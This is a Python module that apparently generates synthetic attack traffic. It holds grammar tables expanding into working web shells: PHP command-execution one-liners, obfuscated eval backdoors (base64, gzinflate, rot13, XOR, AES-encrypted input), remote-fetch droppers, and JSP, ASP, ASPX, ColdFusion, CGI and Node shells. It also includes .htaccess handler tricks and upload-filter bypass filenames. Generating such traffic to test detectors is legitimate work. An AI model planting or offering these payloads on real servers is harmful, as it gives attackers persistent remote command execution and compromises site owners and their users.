"""Web shells, whole or in their shortest forms: PHP, JSP, ASP, ASPX, ColdFusion; upload names."""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "k": (
        "'‹abc›'", '"‹abc›"', "‹abc›", "0", "1", "'cmd'", '"cmd"', "'‹id›'", "'‹rnd›'", "x",
        "'pass'",
    ),
    "in": (
        "$_GET[‹k›]", "$_POST[‹k›]", "$_REQUEST[‹k›]", "$_COOKIE[‹k›]", "$_SERVER['HTTP_‹big›']",
        "${'_GE'.'T'}[‹k›]", "$GLOBALS['_POST'][‹k›]", "$_FILES[‹k›]['name']",
        "getallheaders()[‹k›]", "file_get_contents('php://input')",
    ),
    "run": (
        "system", "exec", "shell_exec", "passthru", "eval", "assert", "popen", "@system", "@eval",
        "@assert", "proc_open", "@passthru", "echo shell_exec", "echo @exec", "die(system",
        "print_r(scandir",
    ),
    "v": ("$‹abc#1›", "$_", "$‹rnd#1›", "$__"),
    "open": (
        "<?php ", "<?php ", "<?php\n", "<?=", "<? ", "<?PHP ", "<?php @",
        "<?php error_reporting(0);", "<?php if(isset(‹in›)){", "GIF89a<?php ", "<?php /*‹id›*/",
        "ÿØÿà<?php ", "<?php header('‹id›');",
    ),
    "close": ("?>", "?>", " ?>", "", ";?>", "//?>", "} ?>"),
    "jrun": (
        'Runtime.getRuntime().exec(request.getParameter("‹abc›"))',
        'new ProcessBuilder(request.getParameterValues("‹abc›")).start()',
        'Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",request.getParameter("‹id›")})',
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    php_short=(
        "‹open›‹run›(‹in›);‹close›", "‹open›‹run›(‹in›)‹close›", "<?=`‹in›`?>",
        "<?=`$_‹GET¦POST›[‹d›]`;", "<?php `‹in›`;?>", "<?=‹in›(‹in›);?>",
        "‹open›echo `‹in›`;‹close›", '<script language="php">‹run›(‹in›);</script>',
        "<?=@eval(‹in›)?>",
    ),
    php_hidden=(
        "‹open›$‹abc#1›='‹b64s›';eval(base64_decode($‹abc#1›));‹in›‹close›",
        "‹open›eval(gzinflate(base64_decode('‹b64›')));‹close›",
        "‹open›$‹abc#1›=str_rot13('nffreg');$‹abc#1›(‹in›);‹close›",
        "‹open›$‹abc#1›='ass'.'ert';$‹abc#1›(‹in›);‹close›",
        "‹open›$‹abc#1›=chr(‹n›).chr(‹n›).chr(‹n›);@$‹abc#1›(‹in›);‹close›",
        "‹open›$‹abc#1›=create_function('$‹abc#2›','eval($‹abc#2›);');$‹abc#1›(‹in›);‹close›",
        "‹open›@preg_replace('/‹abc›/e',‹in›,'‹abc›');‹close›",
        "‹open›array_map('assert',array(‹in›));‹close›",
        "‹open›$_=('%01'^'`').('%13'^'`');$__=‹in›;$_($__);‹close›",
        "‹open›eval(str_rot13(gzinflate(str_rot13(base64_decode('‹b64›')))));‹close›",
        "‹open›call_user_func(‹in›,‹in›);‹close›",
        '‹open›$‹abc#1›="\\x61\\x73\\x73\\x65\\x72\\x74";$‹abc#1›(‹in›);‹close›',
        "‹open›if(md5(‹in›)=='‹hex8›‹hex8›‹hex8›‹hex8›'){eval(‹in›);}‹close›",
        "‹open›session_start();$‹abc#1›=openssl_decrypt(file_get_contents('php://input'),'AES128',"
        "'‹hex8›‹hex8›');eval($‹abc#1›);‹close›",
    ),
    php_upload=(
        "‹open›move_uploaded_file($_FILES[‹k›]['tmp_name'],‹in›);‹close›",
        "‹open›file_put_contents('‹id›.php',base64_decode('‹b64›'));‹close›",
        "‹open›file_put_contents(‹in›,‹in›);‹close›", "‹open›copy('‹url›','‹id›.php');‹close›",
        "‹open›fwrite(fopen('‹id›.php','w'),file_get_contents('‹url›'));‹close›",
        "<?php echo '<form method=post enctype=multipart/form-data><input type=file name=‹abc›>';"
        "@copy($_FILES['‹abc›']['tmp_name'],'‹id›.php');?>",
    ),
    jsp=(
        "<%‹jrun›;%>", "<% ‹jrun›; %>‹abc?›", '<%@page import="java.io.*"%><%Process p=‹jrun›;%>',
        '<%@ page import="java.util.*,java.io.*"%><% if(request.getParameter("‹abc›")!=null)'
        "{‹jrun›;} %>",
        "<jsp:scriptlet>‹jrun›;</jsp:scriptlet>",
        '<%if("‹rnd›".equals(request.getParameter("pwd"))){java.io.InputStream '
        "in=‹jrun›.getInputStream();}%>",
        "${‹jrun›}",
        "<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte[] b)"
        '{return super.defineClass(b,0,b.length);}}%><%String k="‹hex8›‹hex8›";%>',
    ),
    asp=(
        '<%eval request("‹abc›")%>', '<%execute(request("‹id›"))%>',
        '<%@ Page Language="Jscript"%><%eval(Request.Item["‹abc›"],"unsafe");%>',
        '<%@ Page Language="C#"%><%System.Diagnostics.Process.Start("cmd.exe","/c '
        '"+Request["‹abc›"]);%>',
        '<%Set ‹abc#1›=Server.CreateObject("WScript.Shell"):Response.Write(‹abc#1›.Exec("cmd /c '
        '"&Request("‹abc›")).StdOut.ReadAll)%>',
        '<%executeglobal request("‹abc›")%>',
        '<script runat="server" language="JScript">eval(Request.Item["‹id›"],"unsafe");</script>',
        '<%response.write CreateObject("WScript.Shell").exec("cmd /c ‹dir¦whoami›")'
        ".stdout.readall%>‹abc?›",
        '<%@ WebHandler Language="C#" Class="‹id›"%>System.Diagnostics.Process.Start("cmd")',
        '<%eval("‹rnd›"+request("‹abc›"))%>',
    ),
    others=(
        '<cfexecute name="cmd.exe" arguments="/c #form.‹abc›#" timeout="‹d›"></cfexecute>',
        '<cfset ‹abc#1›=createObject("java","java.lang.Runtime").getRuntime().exec(url.‹abc›)>',
        "#!/usr/bin/perl\nuse CGI;print `$ENV{QUERY_STRING}`;#‹rnd›",
        '#!/bin/sh\necho;eval "$QUERY_STRING" #‹rnd›',
        "import os,cgi;os.system(cgi.FieldStorage()['‹abc›'].value)",
        "require('http').createServer((q,s)=>{s.end(require('child_process')"
        ".execSync(q.url.slice(‹d›)))}).listen(‹port›)",
        "AddType application/x-httpd-php .‹jpg¦‹abc››", "SetHandler application/x-httpd-php #‹rnd›",
        "php_value auto_prepend_file ‹/tmp/‹id›¦php://input #‹rnd›¦‹url››",
        '<FilesMatch "‹id›">SetHandler application/x-httpd-php</FilesMatch>',
        "Options +ExecCGI\nAddHandler cgi-script .‹abc›",
    ),
    upload_names=(
        "‹id›.php.‹jpg¦png¦gif¦pdf›", "‹id›.‹phtml¦php3¦php5¦php7¦phar¦pht¦aspx;.jpg›",
        "‹id›.‹php¦asp¦jsp¦aspx›%00.‹jpg¦png¦gif›", "‹id›.‹php¦asp›;.‹jpg¦png›",
        "‹id›.‹PhP¦pHp5¦AsP¦JsP¦phP7›", "‹id›.php%0a.‹jpg¦txt›", "‹id›.php\x00.‹jpg¦gif›",
        "‹id›.‹php¦asp¦jsp›‹.¦%20¦::$DATA¦....¦/›", "‹id›.jpg.‹php¦asp¦jsp¦phtml›",
        "‹id›.‹pphphp¦p.phphp¦phpphp›", "../‹id›.‹php¦jsp¦aspx›", "‹id›.php;‹id›.jpg",
        "'‹id›'.php`sleep ‹d›`.jpg",
    ),
)
